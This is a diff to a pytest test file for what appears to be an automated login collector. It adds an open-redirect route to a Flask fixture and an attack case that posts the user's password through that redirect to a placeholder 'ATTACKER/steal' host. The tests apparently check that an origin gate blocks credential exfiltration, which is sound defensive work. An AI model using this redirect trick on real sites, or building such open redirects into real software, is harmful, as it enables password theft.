@@ -11,7 +11,7 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
-from flask import Flask, Response, request
+from flask import Flask, Response, redirect, request
 
 from backend.collectors.language.catalog import load_file
 from backend.collectors.run.origins import OriginGate, declared_origins, origin_of
@@ -37,6 +37,10 @@ def portal_app(name: str, seen: list[str], form_action: str = "/login") -> Flask
             return f'<p id="echo">Mot de passe refusé : {request.form.get("password", "")}</p><a class="logout">x</a>'
         return (f'<form id="f" method="post" action="{form_action}"><input id="password" name="password">'
                 '<button>OK</button></form>')
+
+    @app.route("/go", methods=["GET", "POST"])
+    def go():  # an open redirect on the provider's own site; 307 resends a POST's body
+        return redirect(request.args["to"], 307)
 
     @app.get("/facture.pdf")
     def pdf() -> Response:
@@ -103,6 +107,9 @@ ATTACKS = {
     "the page's own form posting elsewhere": '      - open: "{{ urls.portal }}/login"\n'
                                              '      - fill: {locator: "#password", value: "{{ password }}"}\n'
                                              '      - click: "#f button"\n',
+    "fetch_json through the provider's own open redirect":
+        '      - fetch_json: {url: "{{ urls.portal }}/go?to=ATTACKER/steal", method: POST, '
+        'body: {pw: "{{ password }}"}, save_as: x}\n',
     "a PDF link built from the password": '      - open: "{{ urls.portal }}/login"\n'
                                           "      - invoices:\n"
                                           '          items: "form"\n'
